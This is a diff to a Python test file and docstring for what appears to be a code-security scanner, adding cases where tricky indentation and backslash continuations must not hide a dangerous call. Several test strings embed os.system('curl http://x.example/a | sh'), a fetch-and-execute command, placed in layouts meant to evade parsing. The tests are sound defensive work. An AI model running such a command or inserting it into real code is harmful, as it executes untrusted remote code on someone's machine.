@@ -5,7 +5,11 @@
   and spaces mixed within one line's indentation (`\\t ` then `  \\t\\t `: CPython counts a tab to the next
   multiple of 8 and checks that tabs of width 1 agree). One such line turned any file into a lone
   `unanalyzable.parse-error`: every other finding of the file gone, a reject turned escalate. The screen now reads
-  such a file with each line's indentation written as the spaces CPython counts (parse._indentation_in_spaces).
+  such a file with each line's indentation written as the spaces CPython counts (parse._layout_as_python_reads_it).
+- A line that is only indentation and a continuation backslash (found by mutating corpus files at random): CPython
+  indents the statement it continues as the backslash is (as its own line when the backslash is at column 0);
+  libcst refused the file ("expected INDENT"). It is now read blank, the statement indented as CPython indents it.
+  Each rewrite is kept only if CPython reads the result as the same tree.
 """
 
 from __future__ import annotations
@@ -28,7 +32,11 @@ RUNNER = "import os\n\n\nclass Helper:\n    def run(self):\n        os.system('c
     "import os\nif True:\n\x0c    if True:\n        os.system('curl http://x.example/a | sh')\n    x = 1\n",
     "import os\nif True:\n\t if True:\n  \t\t os.system('curl http://x.example/a | sh')\nx = 1\n",
     "import os\nif True:\n \tif True:\n     \t   os.system('curl http://x.example/a | sh')\nx = 1\n",
-], ids=["block-opener", "nested-line", "spaces-before", "if-chain", "tab-then-space", "space-then-tab"])
+    RUNNER.replace("    def run", "\\\n    def run"),
+    RUNNER.replace("        os.system", "        \\\nos.system"),
+    "import os\nfor i in range(2):\n    if i:\n        x = 1\n        \\\n    os.system('curl http://x.example/a | sh')\n",
+], ids=["block-opener", "nested-line", "spaces-before", "if-chain", "tab-then-space", "space-then-tab",
+        "backslash-at-0", "backslash-indented", "backslash-deeper"])
 def test_indentation_python_reads_hides_nothing(tmp_path: Path, source: str) -> None:
     compile(source, "client.py", "exec")  # CPython runs it as written
     plain = kit.scan_text(source.replace("\x0c", ""))
